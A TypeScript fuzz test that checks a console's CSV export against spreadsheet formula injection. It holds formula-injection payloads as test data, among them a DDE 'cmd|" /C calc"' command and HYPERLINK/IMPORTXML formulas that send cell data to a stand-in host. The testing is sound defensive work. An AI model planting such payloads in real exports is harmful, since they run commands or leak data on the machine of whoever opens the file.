import { writeCSV } from '../../../src/web/console/parts/texts/csv.ts'
import { readDelimited } from '../../../src/web/console/parts/texts/delimited.ts'
import { createTally, type Figure, type Trial } from '../figure.ts'
import { pick } from '../random.ts'

const cellsARow = 5
const begins = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|', '%', '']
const before = ['', ' ', '  ', '\u00a0', '"', "'", '"=', '\u200b', '\ufeff', '\t ']
const rests = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://x.example/?"&A1,"x")',
  'cmd|" /C calc"!A0',
  'IMPORTXML("http://x.example","//a")',
  'a,b;c\td',
  'line\r\nbreak',
  'quote " and "" more',
  '💥 ünïcode',
]
/** What a spreadsheet takes for the beginning of a formula, once it has trimmed the cell. */
const formula = /^[\s"\u200b\ufeff]*[=+\-@＝＋－＠]/u

/** F16: cells that would run in the spreadsheet of whoever opens an export. */
export const spreadsheets: Figure = {
  id: 'F16',
  promise:
    'no cell of an exported table begins as a formula, also behind spaces, quotes or in full width, and every cell is read back exactly',
  unit: 'cells',
  times: { usual: 10_000, full: 200_000 },
  async run({ times, random }: Trial) {
    const tally = createTally()
    const rows = Array.from({ length: Math.ceil(times / cellsARow) }, () =>
      Array.from(
        { length: cellsARow },
        () => `${pick(random, before)}${pick(random, begins)}${pick(random, rests)}`,
      ),
    )
    const head = Array.from({ length: cellsARow }, (_, at) => `=${at}`)
    const read = readDelimited(writeCSV(head, rows).slice(1), ',').rows
    for (const [at, given] of [head, ...rows].entries()) {
      const cells = read[at]?.cells ?? []
      for (const [column, text] of given.entries()) {
        const cell = cells[column] ?? ''
        if (at > 0) tally.count()
        if (formula.test(cell)) tally.fault(`runs: ${JSON.stringify(cell)}`)
        if (cell !== text && cell !== `'${text}`)
          tally.fault(`${JSON.stringify(text)} became ${JSON.stringify(cell)}`)
      }
    }
    return tally.finding(
      'The console’s writer of tables, read back by its reader; no spreadsheet program was asked.',
    )
  },
}
